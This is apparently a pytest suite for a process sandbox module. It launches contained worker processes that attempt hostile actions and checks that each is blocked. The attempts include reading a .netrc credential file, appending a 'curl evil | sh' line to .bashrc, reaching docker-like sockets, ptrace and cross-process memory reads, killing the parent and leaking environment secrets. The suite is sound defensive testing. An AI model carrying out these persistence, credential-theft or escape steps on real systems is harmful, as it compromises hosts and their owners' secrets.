"""OS containment (tools/contain.py), tried the way a hostile candidate would: each test starts a
fresh interpreter that contains itself with the real layers of this host, then does the hostile
thing and reports what it got. A test is skipped only where the host reports its layer missing."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from kforge.tools import contain

PRELUDE = """
import errno, json, os, signal, socket, sys
from kforge.tools import contain
job = sys.argv[1]
report = {}
def attempt(name, action):
    try:
        action()
        report[name] = "ok"
    except OSError as err:
        report[name] = errno.errorcode[err.errno]
"""
ENTER = "lines = contain.enter(contain.Policy(writable=(job,), readable=contain.default_readable()))\n"
REPORT = "\nprint(json.dumps({'lines': lines, **report}))\n"
MACHINE_COLUMN = 1 if os.uname().machine == "aarch64" else 0


def worker_script(body: str, *, enter: bool = True, namespace: bool = False) -> str:
    """The prelude, the pid namespace (when asked), the other layers (when asked), ``body``."""
    first = "contain.enter_pid_namespace()\n" if namespace else ""
    return PRELUDE + first + (ENTER if enter else "lines = []\n") + body + REPORT


def run_worker(body: str, job: Path, *args: str, enter: bool = True, namespace: bool = False) -> dict:
    """Run ``body`` in a fresh interpreter (contained first, with ``job`` writable); its report."""
    job.mkdir(exist_ok=True)
    env = {**os.environ, "HOME": str(job), "TMPDIR": str(job)}
    proc = subprocess.run(
        [sys.executable, "-c", worker_script(body, enter=enter, namespace=namespace), str(job), *args],
        cwd=job,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.splitlines()[-1])


def require(lines: list[str], layer: str) -> None:
    """Skip, saying why, where this host reports the layer missing."""
    line = next(line for line in lines if line.startswith(f"{layer}:"))
    if "NOT" in line:
        pytest.skip(f"this host does not offer the layer: {line}")


def alive(pid: int) -> bool:
    """Running, not a zombie left for a reaper (the host's PID 1 may reap slowly)."""
    try:
        os.kill(pid, 0)
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (ProcessLookupError, FileNotFoundError):
        return False
    return state not in ("Z", "X")


def test_a_contained_worker_reads_its_packages_and_writes_its_job_folder_only(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("machine pypi.org login me password hunter2\n")
    (home / ".bashrc").write_text("export PS1='$ '\n")
    in_tmp = Path("/tmp") / f"kforge-contain-{os.getpid()}-{time.monotonic_ns()}"
    disk = next((str(p) for p in sorted(Path("/dev").iterdir()) if p.is_block_device()), "")
    body = """
import importlib.util
home, in_tmp, disk = sys.argv[2:5]
attempt("read .netrc", lambda: open(home + "/.netrc").read())
attempt("append to .bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\\n"))
attempt("create in /tmp", lambda: open(in_tmp, "x").close())
attempt("read site-packages", lambda: open(importlib.util.find_spec("torch").origin).read())
attempt("write the job folder", lambda: open(job + "/out.txt", "w").write("written"))
attempt("write /dev/null", lambda: open("/dev/null", "w").write("x"))
import threading
thread = threading.Thread(target=threading.Event().wait, args=(5,), daemon=True)
thread.start()  # CUDA names its threads so, and fails where it cannot
attempt("name a thread", lambda: open(f"/proc/self/task/{thread.native_id}/comm", "w").write("named"))
sysctl = "/proc/sys/kernel/printk_ratelimit"  # written back unchanged, should the write get through
attempt("write a sysctl", lambda: open(sysctl, "r+").write(open(sysctl).read()))
if disk:
    attempt("read a raw disk", lambda: open(disk, "rb").read(512))
import torch
report["torch"] = float((torch.arange(4.0) * 2).sum())
"""
    try:
        report = run_worker(body, tmp_path / "job", str(home), str(in_tmp), disk, namespace=True)
        assert not in_tmp.exists()
    finally:
        in_tmp.unlink(missing_ok=True)
    require(report["lines"], "filesystem")
    require(report["lines"], "processes")  # torch imports in its pid namespace, with its own /proc
    assert report["read .netrc"] == "EACCES"
    assert report["append to .bashrc"] == "EACCES"
    assert (home / ".bashrc").read_text() == "export PS1='$ '\n"
    assert report["create in /tmp"] == "EACCES"
    assert report["read site-packages"] == "ok"
    assert report["write the job folder"] == "ok"
    assert (tmp_path / "job" / "out.txt").read_text() == "written"
    assert report["write /dev/null"] == "ok"
    assert report["name a thread"] == "ok"
    assert report["write a sysctl"] == "EACCES"
    assert report.get("read a raw disk", "EACCES") == "EACCES"
    assert report["torch"] == 12.0


@pytest.fixture
def servers(tmp_path: Path):
    """A pathname and an abstract UNIX socket server and a TCP one, listening; none accepts."""
    pathname = socket.socket(socket.AF_UNIX)
    pathname.bind(str(tmp_path / "server.sock"))
    abstract = socket.socket(socket.AF_UNIX)
    abstract_name = f"kforge-contain-{os.getpid()}-{time.monotonic_ns()}"
    abstract.bind("\0" + abstract_name)
    tcp = socket.socket(socket.AF_INET)
    tcp.bind(("127.0.0.1", 0))
    opened = [pathname, abstract, tcp]
    for server in opened:
        server.listen()
        server.setblocking(False)
    names = {
        "pathname": str(tmp_path / "server.sock"),
        "abstract": abstract_name,
        "port": tcp.getsockname()[1],
    }
    yield names
    for server in opened:
        if names.get("accepted") == "tcp" and server is tcp:
            server.accept()[0].close()  # the one connection the test let through
        else:
            with pytest.raises(BlockingIOError):  # nobody got through to it
                server.accept()
        server.close()


CONNECT = """
path, abstract, port = sys.argv[2], "\\0" + sys.argv[3], int(sys.argv[4])
def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.connect(address)
"""


def test_a_contained_worker_connects_to_no_socket(tmp_path: Path, servers: dict) -> None:
    body = (
        CONNECT
        + """
attempt("docker.sock-like pathname socket", lambda: connect(socket.AF_UNIX, path))
attempt("abstract socket", lambda: connect(socket.AF_UNIX, abstract))
attempt("TCP to localhost", lambda: connect(socket.AF_INET, ("127.0.0.1", port)))
attempt("an IPv6 socket", lambda: socket.socket(socket.AF_INET6).close())
attempt("a netlink socket", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close())
attempt("a datagram socketpair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
attempt("a datagram UNIX socket", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).close())
def serve_like_cuda():  # CUDA serves its UVM fds on an abstract seqpacket socket
    server = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    server.bind("\\0cuda-uvmfd-like-" + str(os.getpid()))
    server.listen()
attempt("a seqpacket server like CUDA's", serve_like_cuda)
a, b = socket.socketpair()
a.sendall(b"ping")
report["socketpair"] = b.recv(4).decode()
"""
    )
    report = run_worker(
        body, tmp_path / "job", servers["pathname"], servers["abstract"], str(servers["port"])
    )
    require(report["lines"], "syscalls")
    for name in ("docker.sock-like pathname socket", "abstract socket", "TCP to localhost", "an IPv6 socket"):
        assert report[name] == "EPERM", name
    assert report["a netlink socket"] == report["a datagram socketpair"] == "EPERM"
    assert report["a datagram UNIX socket"] == "EPERM"
    assert report["a seqpacket server like CUDA's"] == "ok"
    assert report["socketpair"] == "ping"


def test_a_worker_with_network_reaches_tcp_but_no_unix_stream_socket(tmp_path: Path, servers: dict) -> None:
    """``network=True`` opens TCP (Landlock and seccomp) and connect(); a UNIX stream socket,
    the kind docker.sock and ssh agents serve, still cannot be made."""
    body = (
        "policy = contain.Policy(writable=(job,), readable=contain.default_readable(), network=True)\n"
        "lines = contain.enter(policy)\n"
        + CONNECT
        + """
attempt("TCP to localhost", lambda: connect(socket.AF_INET, ("127.0.0.1", port)))
attempt("docker.sock-like pathname socket", lambda: connect(socket.AF_UNIX, path))
"""
    )
    report = run_worker(
        body, tmp_path / "job", servers["pathname"], servers["abstract"], str(servers["port"]), enter=False
    )
    require(report["lines"], "syscalls")
    assert report["TCP to localhost"] == "ok"
    assert report["docker.sock-like pathname socket"] == "EPERM"
    servers["accepted"] = "tcp"  # the fixture expects this one connection


def test_landlock_alone_keeps_abstract_sockets_and_tcp_in(tmp_path: Path, servers: dict) -> None:
    """The Landlock layer holds without seccomp (socket() itself allowed): scoped abstract
    sockets (ABI 6) and no TCP connect (ABI 4)."""
    body = (
        "policy = contain.Policy(writable=(job,), readable=contain.default_readable())\n"
        "lines = contain.restrict_filesystem(policy)\n"
        + CONNECT
        + """
attempt("abstract socket", lambda: connect(socket.AF_UNIX, abstract))
attempt("TCP to localhost", lambda: connect(socket.AF_INET, ("127.0.0.1", port)))
"""
    )
    report = run_worker(
        body, tmp_path / "job", servers["pathname"], servers["abstract"], str(servers["port"]), enter=False
    )
    require(report["lines"], "signals")
    require(report["lines"], "tcp")
    assert report["abstract socket"] == "EPERM"
    assert report["TCP to localhost"] == "EACCES"


PRYING = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    number = contain.SYSCALLS[name][int(sys.argv[2])]
    if libc.syscall(number, *args) == -1:
        raise OSError(ctypes.get_errno(), name)
attempt("ptrace", lambda: call("ptrace", 0, 0, 0, 0))  # PTRACE_TRACEME
attempt("process_vm_readv", lambda: call("process_vm_readv", os.getppid(), 0, 0, 0, 0, 0))
attempt("io_uring_setup", lambda: call("io_uring_setup", 1, 0))
attempt("keyctl", lambda: call("keyctl", 0, ctypes.c_int(-4), 0))  # the user keyring's id
"""


@pytest.mark.parametrize("contained", [True, False], ids=["contained", "not-contained"])
def test_a_contained_worker_cannot_trace_read_other_processes_or_use_io_uring(
    tmp_path: Path, contained: bool
) -> None:
    """Without containment the same calls get past the permission check (the test can fail)."""
    report = run_worker(PRYING, tmp_path / "job", str(MACHINE_COLUMN), enter=contained)
    if contained:
        require(report["lines"], "syscalls")
    for name in ("ptrace", "process_vm_readv", "io_uring_setup", "keyctl"):
        assert (report[name] == "EPERM") == contained, (name, report[name])


SACRIFICE = """
import os, subprocess, sys
from kforge.tools import contain
job, worker = sys.argv[1], sys.argv[2]
env = contain.allowed_env({"HOME": job, "TMPDIR": job})
child = subprocess.run([sys.executable, "-c", worker, job, str(os.getpid())], env=env, cwd=job,
                       capture_output=True, text=True)
print(child.stderr, file=sys.stderr)
print(child.stdout.strip(), "parent survived", sep="\\n")
"""


def run_under_parent(body: str, job: Path, *, namespace: bool) -> dict:
    """Run the worker under a sacrificial parent that holds secrets in its environment and
    starts it with allowed_env; the worker's report, once the parent said it survived."""
    job.mkdir()
    worker = worker_script(body, namespace=namespace)
    secrets = {"OPENAI_API_KEY": "sk-hunter2", "DATABASE_URL": "postgres://u:hunter2@db/x"}
    proc = subprocess.run(
        [sys.executable, "-c", SACRIFICE, str(job), worker],
        env={**os.environ, **secrets},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[-1] == "parent survived"
    return json.loads(proc.stdout.splitlines()[-2])


def test_a_contained_worker_cannot_kill_its_parent(tmp_path: Path) -> None:
    body = 'attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))\n'
    report = run_under_parent(body, tmp_path / "job", namespace=False)
    require(report["lines"], "signals")
    assert report["kill the parent"] == "EPERM"


def test_a_worker_in_its_namespace_sees_no_other_process_and_no_secret(tmp_path: Path) -> None:
    """Its /proc is its namespace's own: the parent's /proc/PID/environ is not there to read
    (Landlock alone lets a root worker read it: see docs/evaluation.md)."""
    body = """
parent = sys.argv[2]
attempt("read the parent's environ", lambda: open(f"/proc/{parent}/environ", "rb").read())
report["processes seen"] = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
report["a secret in its own environment"] = any("hunter2" in value for value in os.environ.values())
"""
    report = run_under_parent(body, tmp_path / "job", namespace=True)
    assert report["a secret in its own environment"] is False
    require(report["lines"], "processes")
    assert "own /proc" in report["lines"][-1]
    assert report["read the parent's environ"] == "ENOENT"
    assert report["processes seen"] == [1]


DAEMONS = """
import ctypes, os, sys, time
from kforge.tools import contain
job, name, namespace = sys.argv[1], sys.argv[2], sys.argv[3] == "namespace"
if namespace:
    print(contain.enter_pid_namespace(), flush=True)
    contain.enter(contain.Policy(writable=(job,), readable=contain.default_readable()))
for kind in ("process-group child", "setsid daemon", "double-forked grandchild"):
    if os.fork() == 0:
        os.dup2(os.open(os.devnull, os.O_WRONLY), 1)  # hold no pipe of the test's
        os.dup2(1, 2)
        if kind == "setsid daemon":
            os.setsid()
        if kind == "double-forked grandchild" and os.fork():
            os._exit(0)
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME: the test finds it by name
        with open(job + "/started", "a") as f:
            f.write(kind + "\\n")
        time.sleep(60)
        os._exit(0)
deadline = time.monotonic() + 10
while len(open(job + "/started").read().splitlines()) < 3 and time.monotonic() < deadline:
    time.sleep(0.01)
"""


def running(name: str) -> list[int]:
    """The host's live processes named ``name`` (their comm)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if (
                entry.name.isdigit()
                and (entry / "comm").read_text().strip() == name
                and alive(int(entry.name))
            ):
                found.append(int(entry.name))
        except OSError:
            continue  # gone meanwhile
    return found


@pytest.mark.parametrize("namespace", [True, False], ids=["pid-namespace", "none"])
def test_nothing_a_worker_started_outlives_it(tmp_path: Path, namespace: bool) -> None:
    """A process-group child, a setsid daemon and a double-forked grandchild; without the
    namespace all three survive the worker (so the test can fail)."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "started").touch()
    mode = "namespace" if namespace else "none"
    name = f"kfd-{os.getpid() % 10**6}-{mode[0]}"  # a comm is at most 15 characters
    proc = subprocess.run(
        [sys.executable, "-c", DAEMONS, str(job), name, mode],
        cwd=job,
        env={**os.environ, "HOME": str(job), "TMPDIR": str(job)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    try:
        assert proc.returncode == 0, proc.stderr
        assert len((job / "started").read_text().splitlines()) == 3  # each was named first
        if namespace and "NOT" in proc.stdout:
            pytest.skip(f"this host does not offer the layer: {proc.stdout.strip()}")
        deadline = time.monotonic() + 3
        while namespace and running(name) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert len(running(name)) == (0 if namespace else 3)
    finally:
        for pid in running(name):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.parametrize(("sent", "status"), [(signal.SIGTERM, 128 + signal.SIGTERM), (signal.SIGKILL, -9)])
def test_a_signal_to_the_outer_process_ends_the_namespace(tmp_path: Path, sent: int, status: int) -> None:
    """SIGTERM is forwarded to PID 1 (which ignores signals it has no handler for); SIGKILL
    kills the outer process, and the inner one dies with it."""
    script = """
import time
from kforge.tools import contain
print(contain.enter_pid_namespace(), flush=True)
time.sleep(60)
"""
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, cwd=tmp_path)
    try:
        assert proc.stdout is not None
        first = proc.stdout.readline()
        if "NOT" in first:
            pytest.skip(f"this host does not offer the layer: {first.strip()}")
        (inner,) = map(int, Path(f"/proc/{proc.pid}/task/{proc.pid}/children").read_text().split())
        proc.send_signal(sent)
        assert proc.wait(timeout=10) == status
        deadline = time.monotonic() + 3
        while alive(inner) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert not alive(inner)
    finally:
        proc.kill()
        proc.wait()


def test_enter_pid_namespace_serves_as_a_preexec_fn(tmp_path: Path) -> None:
    """As a sandbox would use it: Popen returns at once (the outer process keeps no pipe that
    Popen waits on), the program runs as PID 1, and a failed exec still raises."""
    program = "import os, select, sys; select.select([sys.stdin], [], [], 10); print(os.getpid())"
    started = time.monotonic()
    proc = subprocess.Popen(
        [sys.executable, "-c", program],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
        preexec_fn=contain.enter_pid_namespace,
    )
    returned_after_s = time.monotonic() - started
    out, _ = proc.communicate("go", timeout=30)
    if out.strip() != "1" and "NOT" in contain.probe()[-1]:
        pytest.skip(f"this host does not offer the layer: {contain.probe()[-1]}")
    assert (out.strip(), proc.returncode) == ("1", 0)
    assert returned_after_s < 5
    with pytest.raises(FileNotFoundError):
        subprocess.Popen([str(tmp_path / "missing")], preexec_fn=contain.enter_pid_namespace)


def test_allowed_env_passes_what_a_worker_needs_and_no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    dropped = {
        "DATABASE_URL": "postgres://app:hunter2@db:5432/prod",
        "PIP_INDEX_URL": "https://__token__:pypi-AgEI@pypi.example.com/simple",
        "HTTPS_PROXY": "http://u:p@h",
        "OPENAI_API_KEY": "sk-not-real",
        "AWS_ACCESS_KEY_ID": "AKIA0000",
        "AWS_REGION": "eu-west-1",
        "TRITON_API_TOKEN": "t",
        "KFORGE_SECRET": "s",
        "KFORGE_REMOTE": "https://me:pass@example.com/",
        "LD_PRELOAD": "/tmp/evil.so",
    }
    kept = {
        "PATH": "/usr/bin:/bin",
        "PYTHONPATH": "/work/pp",
        "CUDA_VISIBLE_DEVICES": "1",
        "LC_ALL": "C.UTF-8",
        "TORCHINDUCTOR_COMPILE_THREADS": "1",
        "KFORGE_TIMING_CPUS": "auto",
        "NVIDIA_VISIBLE_DEVICES": "all",
    }
    for name, value in {**dropped, **kept}.items():
        monkeypatch.setenv(name, value)
    env = contain.allowed_env({"HOME": "/jobs/7"})
    assert not set(dropped) & set(env)
    assert {name: env[name] for name in kept} == kept
    assert env["HOME"] == "/jobs/7"


def test_a_host_without_landlock_or_seccomp_reports_them_missing_and_nothing_pretends(tmp_path: Path) -> None:
    """Landlock and seccomp answer ENOSYS, unshare EPERM (simulated): ``enter`` does not raise,
    says NOT contained, and indeed a write outside the job folder still goes through."""
    body = """
real_syscall, real_libc_call = contain._syscall, contain._libc_call
def refused(number, *args):
    if number in (444, 445, 446, contain.SYSCALLS["seccomp"][int(sys.argv[2])]):
        raise OSError(errno.ENOSYS, "simulated")
    return real_syscall(number, *args)
def no_unshare(name, *args):
    if name == "unshare":
        raise OSError(errno.EPERM, "simulated")
    return real_libc_call(name, *args)
contain._syscall, contain._libc_call = refused, no_unshare
pid = os.getpid()
report["namespaces"] = contain.enter_pid_namespace()
report["forked"] = os.getpid() != pid
lines = contain.enter(contain.Policy(writable=(job,), readable=contain.default_readable()))
attempt("write outside the job", lambda: open(sys.argv[3], "w").write("x"))
"""
    outside = tmp_path / "outside.txt"
    report = run_worker(body, tmp_path / "job", str(MACHINE_COLUMN), str(outside), enter=False)
    lines = report["lines"]
    assert "filesystem: NOT contained (landlock unavailable: ENOSYS)" in lines
    assert "signals: NOT contained (landlock unavailable: ENOSYS)" in lines
    assert "tcp: NOT contained (landlock unavailable: ENOSYS)" in lines
    assert "syscalls: NOT contained (seccomp: ENOSYS)" in lines
    assert report["namespaces"] == "processes: NOT contained (unshare refused: EPERM)"
    assert report["forked"] is False
    assert lines[0].startswith("privileges: no new privileges")
    assert report["write outside the job"] == "ok" and outside.exists()


def test_probe_lists_the_layers_and_leaves_its_caller_as_it_was(tmp_path: Path) -> None:
    lines = contain.probe()
    layers = [line.split(":")[0] for line in lines]
    assert layers == ["privileges", "filesystem", "signals", "tcp", "syscalls", "processes"]
    try:
        abi = contain.landlock_abi()
        assert lines[1].startswith(f"filesystem: landlock abi {abi} ")
    except OSError:
        assert "NOT contained" in lines[1]
    status = Path("/proc/self/status").read_text()
    assert "NoNewPrivs:\t0" in status and "Seccomp:\t0" in status
    (tmp_path / "still-writable").write_text("x")
    socket.socket(socket.AF_INET).close()


def test_default_readable_holds_the_interpreter_and_no_home_tmp_or_secret() -> None:
    paths = contain.default_readable()
    assert sys.prefix in paths and "/usr" in paths and "/proc" in paths
    home = os.path.expanduser("~")
    for private in (home, "/tmp", "/root", "/etc/shadow", f"{home}/.netrc", "/dev/vda"):
        assert not any(os.path.commonpath([path, private]) == path for path in paths), private
